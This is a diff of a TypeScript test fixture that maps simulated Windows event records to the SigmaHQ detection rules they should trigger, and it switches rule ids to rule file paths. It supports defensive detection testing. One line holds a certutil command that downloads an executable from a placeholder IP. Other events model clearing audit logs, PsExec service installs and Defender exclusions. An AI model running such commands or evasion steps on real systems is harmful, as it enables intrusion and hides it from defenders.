@@ -13,7 +13,7 @@ type Doc = Record<string, unknown>;
 
 export interface ShapedEvent {
   name: string;
-  /** Ids (sorted) of the SigmaHQ rules under rules/windows this event triggers, and no others. */
+  /** The SigmaHQ rule files (under the corpus's rules/) this event triggers, and no others; the test reads their ids from the corpus. */
   expectedRules: string[];
   shapes: Record<string, Doc | string>;
 }
@@ -23,7 +23,10 @@ const CERTUTIL_CMD = 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe 
 
 const certutil: ShapedEvent = {
   name: 'Sysmon 1: certutil downloads a file',
-  expectedRules: ['13e6fe51-d478-4c7e-b0f2-6da9b400a829', '19b08b1c-861d-4e75-a1ef-ea0c1baf202b'],
+  expectedRules: [
+    'windows/process_creation/proc_creation_win_certutil_download_direct_ip.yml',
+    'windows/process_creation/proc_creation_win_certutil_download.yml',
+  ],
   shapes: {
     evtx_dump: {
       Event: {
@@ -178,7 +181,7 @@ const EVENTLOG_NS = 'http://manifests.microsoft.com/win/2004/08/windows/eventlog
 
 const logCleared: ShapedEvent = {
   name: 'Security 1102: the audit log was cleared (UserData)',
-  expectedRules: ['d99b79d2-0a6f-4f46-ad8b-260b6e17f982'],
+  expectedRules: ['windows/builtin/security/win_security_audit_log_cleared.yml'],
   shapes: {
     evtx_dump: {
       Event: {
@@ -313,7 +316,7 @@ const SCM_GUID = '{555908d1-a6d7-4695-8e1e-26931d2012f4}';
 
 const psexecService: ShapedEvent = {
   name: 'System 7045: the PsExec service was installed (EventID with qualifiers)',
-  expectedRules: ['42c575ea-e41e-41f1-b248-8093c3e82a28'],
+  expectedRules: ['windows/builtin/system/service_control_manager/win_system_service_install_sysinternals_psexec.yml'],
   shapes: {
     evtx_dump: {
       Event: {
@@ -425,7 +428,7 @@ const EXCLUSION = 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Path
 
 const defenderExclusion: ShapedEvent = {
   name: 'Defender 5007: an exclusion was added (EventData names with spaces)',
-  expectedRules: ['1321dc4e-a1fe-481d-a016-52c45f0c8b4f'],
+  expectedRules: ['windows/builtin/windefend/win_defender_config_change_exclusion_added.yml'],
   shapes: {
     evtx_dump: {
       Event: {
@@ -507,7 +510,7 @@ const defenderExclusion: ShapedEvent = {
 
 const transportAgent: ShapedEvent = {
   name: 'MSExchange Management: a transport agent was installed (unnamed Data, a keyword rule)',
-  expectedRules: ['4fe151c2-ecf9-4fae-95ae-b88ec9c2fca6'],
+  expectedRules: ['windows/builtin/msexchange/win_exchange_transportagent.yml'],
   shapes: {
     evtx_dump: {
       Event: {
